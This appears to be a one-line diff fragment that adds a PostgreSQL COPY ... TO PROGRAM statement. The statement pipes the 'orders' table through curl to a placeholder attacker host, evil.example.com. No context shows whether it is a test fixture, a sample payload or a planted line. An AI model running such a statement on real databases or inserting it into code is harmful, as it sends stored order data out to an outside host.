@@ -1,0 +1,1 @@
+COPY orders TO PROGRAM 'curl -d @- http://evil.example.com'
